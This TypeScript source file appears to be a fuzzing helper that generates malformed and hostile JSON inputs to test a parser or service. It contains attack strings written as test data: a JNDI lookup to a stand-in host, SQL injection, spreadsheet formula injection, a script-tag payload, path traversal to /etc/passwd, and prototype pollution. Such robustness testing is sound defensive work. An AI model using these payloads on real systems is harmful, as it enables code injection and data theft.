import type { NonEmpty, Random } from '../random';

/** Hostile JSON values, each as JSON text without line breaks. */
export type Draw = (random: Random) => string;

/** Splits a text at its bars into values; each is JSON as it stands in a message. */
export function listed(text: TemplateStringsArray): NonEmpty<string> {
  return split((text.raw[0] ?? '').trim());
}

export function split(text: string): NonEmpty<string> {
  const [first = '', ...others] = text.split(/\s+\|\s+/);
  return [first, ...others];
}

/** The JSON text of a string. */
export function quoted(text: string): string {
  return JSON.stringify(text);
}

/** Values that mean "no value", in every spelling and type. */
export const nothings = listed`null | {} | [] | true | false | "" | "-" | "null" | " " | " - " | "NULL" | "\t" | "\u00a0" | "\u3000null\ufeff"`;

/** Texts that some reader may interpret: JavaScript, JSON, a URL parser, a path, a query, a terminal. */
export const words: NonEmpty<string> = [
  quoted('${jndi:ldap://a.example/x}'),
  ...listed`
  "-." | ". ." | "..." | "-.a" | "a.-" | "null.null" | "a@" | "@" | "-@-" | "<unknown>" | "__proto__" | "constructor" | "toString"
  | "hasOwnProperty" | "undefined" | "NaN" | "Infinity" | "1e400" | "0x10" | "99999999999999999999999" | "-1" | "443 "
  | "9007199254740993" | "{\"a\":" | "[[[[" | "{}" | "[]" | "[1,2]" | "{\"__proto__\":{\"polluted\":1}}" | "\"" | "\\" | "\\\""
  | "\\u0000" | "'; drop table NetworkSessions --" | "=cmd|calc" | "%00" | "%s%n"
  | "<script>alert(1)</script>" | "../../../../etc/passwd" | "C:\\Windows\\..\\x" | "\\\\server\\share" | "https://-/"
  | "https://null" | "https://a:b@" | "javascript:alert(1)" | "?#" | "true" | "2026-02-30T00:00:00Z"`,
];

/** Strings that break some readers: lone surrogates, NUL, needless escapes, marks that reverse the text direction. */
export const strange: NonEmpty<string> = [
  ...listed`
  "\ud800" | "\udfff" | "\udc00\ud800" | "a\ud83d.example" | "\ud83d\ude00" | "😀" | "\u0000" | "a\u0000b" | "\n\r\t\b\f\/"
  | "line\nbreak" | "\u2028\u2029" | "\ufeff" | "\ufeff-\ufeff" | "\u202egnp.exe" | "\u200b" | "ée\u0301" | "\ufffd" | "\uffff"
  | "İIıiſK" | "\u001b[2J" | "\u0041\u002e\u0042"`,
  // They become invalid UTF-8.
  quoted(String.fromCharCode(0x7f)),
];

const numbers: NonEmpty<string> = [
  ...listed`
  0 | -0 | -1 | 1.5 | 0.1 | 65536 | 4294967296 | 9007199254740991 | 9007199254740992 | 9007199254740993 | -9007199254740993
  | 9223372036854775807 | 9223372036854775808 | -9223372036854775809 | 18446744073709551616 | 1e5 | 1E+2 | 1e-7 | 5e-324 | 1e308
  | 1e309 | -1e400 | 1e99999999999 | 0.1e-99999999999 | 12345678901234567.5 | 1.00000000000000000000000000000000000001`,
  `1${'0'.repeat(400)}`,
  `0.${'3'.repeat(400)}`,
  '9'.repeat(2000),
];

const containers = listed`
  {} | [] | [[]] | [{}] | [null] | [null,null,[null,{"a":null}]] | {"":""} | {"a":null} | {"a":1,"a":2} | {"a":{"b":{"c":null}},"d":[]}
  | {"0":"a","1":"b","length":-1} | {"length":1e9} | {"toJSON":"x"} | {"toString":null,"valueOf":1} | {"then":true} | {"Truncated":"no"}
  | {"__proto__":{"polluted":1}} | {"__proto__":null,"a":{"__proto__":[9007199254740993]}} | {"\u005f_proto__":{"polluted":1}}
  | {"__proto__":"text","__proto__":{"LocalIP":"10.0.0.1"}} | {"constructor":{"prototype":{"polluted":1}}} | {"hasOwnProperty":1}
  | {"\ud800":"\udfff","\ud801":1} | {"a":"\ud800","b":["\udc00",{"c":"x\ud900"}]} | [9007199254740993,-9007199254740993,1e400,0.1]
  | {"isLosslessNumber":true,"value":"1"} | [true,false,"",0,{}]`;

/** Keys that JavaScript treats specially, and meaningless ones. */
export const keys = listed`
  "__proto__" | "constructor" | "prototype" | "toJSON" | "toString" | "hasOwnProperty" | "length" | "0" | "" | "NewColumn" | "Truncated"
  | "Detail" | "Unmapped" | " " | "-" | "null" | "\u0000" | "é" | "😀" | "a.b" | "\ud800" | "\ud801" | "\u005f_proto__"`;

/** Any hostile value, of 2 KB at most. */
export function hostileValue(random: Random): string {
  const lists = [nothings, strange, numbers, containers, words, words] as const;
  const kind = random.below(lists.length + 2);
  if (kind === lists.length) return anyText(random);
  return kind > lists.length ? nested(random, 3) : random.pick(lists[kind] ?? words);
}

/** Up to 16 UTF-16 units, some escaped and some not, most of them no text in any language. */
function anyText(random: Random): string {
  const units = Array.from({ length: random.below(17) }, () => random.below(0x10000));
  const written = units.map((unit) =>
    unit >= 0x80 && unit < 0xd800 ? String.fromCharCode(unit) : `\\u${unit.toString(16).padStart(4, '0')}`,
  );
  return `"${written.join('')}"`;
}

function nested(random: Random, depth: number): string {
  const isList = random.oneIn(2);
  if (depth === 0 || random.oneIn(3)) return random.pick(random.oneIn(2) ? numbers : words);
  const items = Array.from({ length: random.below(4) }, () => {
    const item = nested(random, depth - 1);
    return isList ? item : `${random.pick(keys)}:${item}`;
  });
  return isList ? `[${items.join(',')}]` : `{${items.join(',')}}`;
}

const units = ['a', '.', ' ', '€', '😀', '\\u0000', '\\ud800', '\\"', '\\\\', '9', '@', '?', '%', '/'] as const;
const starts = ['', 'https://a.example/', 'host.', '{', 'S-1-5-21-', '2026-11-21T08:15:28.'] as const;
const brackets = [
  ['[', ']'],
  ['{"a":', '}'],
  ['[{"__proto__":', '}]'],
  ['[null,', ']'],
] as const;

/**
 * A large or deep value, near the sizes and depths at which the service and the product start to cut: up to
 * 250 KB, so that no three columns made of one exceed what one call to the service takes.
 */
export function monster(random: Random): string {
  if (random.oneIn(2)) {
    const unit = random.pick(units);
    const most = Math.min(70_000, Math.floor(250_000 / Buffer.byteLength(unit)));
    return `"${random.pick(starts)}${unit.repeat(random.between(9000, most))}"`;
  }
  const inner = random.oneIn(2) ? deep(random) : wide(random);
  if (!random.oneIn(3)) return inner;
  return quoted(random.oneIn(4) ? inner.slice(0, -1) : inner);
}

function deep(random: Random): string {
  const depth = random.oneIn(8) ? random.between(1000, 20_000) : random.between(28, 40);
  const [opening, closing] = random.pick<readonly [string, string]>(brackets);
  return `${opening.repeat(depth)}"\\ud800"${closing.repeat(depth)}`;
}

function wide(random: Random): string {
  const items = Array<string>(random.between(1000, 8000)).fill(
    random.pick(['null', '0', '9007199254740993', '"-"', '{}', '"\\ud800"']),
  );
  if (random.oneIn(2)) return `[${items.join(',')}]`;
  const key = random.pick(keys).slice(1, -1);
  return `{${items.map((value, i) => `"${key}${i}":${value}`).join(',')}}`;
}
